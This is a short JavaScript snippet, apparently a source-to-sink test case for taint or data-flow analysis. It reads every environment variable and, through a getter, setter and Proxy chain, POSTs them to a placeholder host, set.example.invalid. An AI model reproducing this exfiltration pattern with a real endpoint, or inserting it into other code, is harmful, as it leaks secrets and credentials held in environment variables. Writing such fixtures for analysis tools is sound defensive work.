const source = {
  get all() {
    return Object.entries(process.env).join('\n');
  },
};

const sink = {
  set body(value) {
    fetch('https://set.example.invalid', { method: 'POST', body: value });
  },
};

sink.body = new Proxy(source, {}).all;
